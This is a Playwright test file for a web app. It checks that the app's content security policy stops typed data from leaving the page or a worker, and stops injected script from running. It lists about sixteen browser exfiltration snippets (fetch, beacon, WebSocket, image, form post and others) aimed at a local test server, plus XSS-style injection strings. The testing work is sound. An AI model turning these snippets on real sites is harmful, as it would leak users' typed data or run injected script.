"""What is typed cannot leave: each way out is tried, from page and worker, and the browser refuses it."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Final

import pytest
from playwright.sync_api import Browser, Page

from tests.browser.server import SiteServer, serving
from tests.browser.story import open_page

pytestmark = pytest.mark.browser

ADD: Final = """(name, given) => {
    document.body.append(Object.assign(document.createElement(name), given));
    return document.body.lastElementChild;
}"""
# Each takes an address elsewhere; what would be sent with it does not matter.
FROM_PAGE: Final = {
    "fetch": "url => fetch(url, { method: 'POST', mode: 'no-cors', body: 'Dana' })",
    "beacon": "url => navigator.sendBeacon(url, 'Dana')",
    "request": "url => { const sent = new XMLHttpRequest(); sent.open('POST', url); sent.send('Dana'); }",
    "socket": "url => new WebSocket(url.replace('http', 'ws'))",
    "events": "url => new EventSource(url)",
    "image": "url => { new Image().src = url; }",
    "style": "url => add('link', { rel: 'stylesheet', href: url })",
    "script": "url => add('script', { src: url })",
    "module": "url => import(url)",
    "frame": "url => add('iframe', { src: url })",
    "object": "url => add('object', { data: url })",
    "media": "url => add('video', { src: url })",
    "font": "url => new FontFace('x', `url(${url})`).load()",
    "worker": "url => new Worker(url)",
    "form": """url => {
        const form = add('form', { method: 'post', action: url });
        form.submit();
    }""",
    "navigation": "url => { location.href = url; }",
}
FROM_WORKER: Final = {
    name: FROM_PAGE[name] for name in ("fetch", "request", "socket", "events", "module", "worker")
}


@pytest.fixture
def elsewhere(tmp_path: Path) -> Iterator[SiteServer]:
    """Serve another site, which notes what it is asked for."""
    with serving(tmp_path) as server:
        yield server


@pytest.fixture(params=[False, True], ids=["kept", "lifted"])
def policy_is_lifted(request: pytest.FixtureRequest) -> bool:
    """Try all with the policy, and without, where each must get out: else the tests would prove nothing."""
    lifted: bool = request.param
    return lifted


@pytest.fixture
def typed(browser: Browser, server: SiteServer, *, policy_is_lifted: bool) -> Iterator[Page]:
    """Return the writing page, where somebody has typed."""
    context = browser.new_context(bypass_csp=policy_is_lifted)
    page = context.new_page()
    open_page(page, server)
    page.get_by_label("Company").fill("Harbour Street Clinic")
    page.evaluate(f"() => {{ window.add = {ADD}; }}")
    yield page
    context.close()


@pytest.mark.parametrize("way", FROM_PAGE)
def test_nothing_leaves_the_page(
    typed: Page, elsewhere: SiteServer, way: str, *, policy_is_lifted: bool
) -> None:
    """Whatever a script tries, no other site hears of it; a navigation is held back by the page itself."""
    quietly = f"url => Promise.resolve().then(() => ({FROM_PAGE[way]})(url)).then(() => 0, () => 0)"
    typed.evaluate(quietly, elsewhere.url("leak"))
    typed.wait_for_timeout(500)
    asked = elsewhere.paths != []
    # A worker from elsewhere is refused in any case, and where a page goes is held by itself.
    assert asked == (policy_is_lifted and way not in {"worker", "form", "navigation"})


@pytest.mark.parametrize("way", FROM_WORKER)
def test_nothing_leaves_the_worker(
    typed: Page, elsewhere: SiteServer, way: str, *, policy_is_lifted: bool
) -> None:
    """Nor does it hear of what the worker tries, which is all that Python's `js` module could."""
    if policy_is_lifted:
        pytest.skip("Chromium lifts the policy of pages only")
    worker = next(one for one in typed.workers if one.url.startswith("blob:"))
    quietly = f"url => Promise.resolve().then(() => ({FROM_WORKER[way]})(url)).then(() => 0, () => 0)"
    worker.evaluate(quietly, elsewhere.url("leak"))
    typed.wait_for_timeout(500)
    assert elsewhere.paths == []


def test_no_script_comes_from_a_text(browser: Browser, server: SiteServer) -> None:
    """A script that gets into the page as HTML, an attribute or a text to evaluate does not run."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(server.url("write/"))
    page.evaluate(f"() => {{ window.add = {ADD}; window.ran = []; }}")
    page.evaluate("""() => {
        add('script', { textContent: 'ran.push("inline")' });
        document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="ran.push(`attribute`)">');
        add('a', { href: 'javascript:ran.push("link")' }).click();
        setTimeout('ran.push("timer")');
        setTimeout(() => eval('ran.push("eval")'));
    }""")
    page.wait_for_timeout(300)
    assert page.evaluate("ran") == []
    context.close()
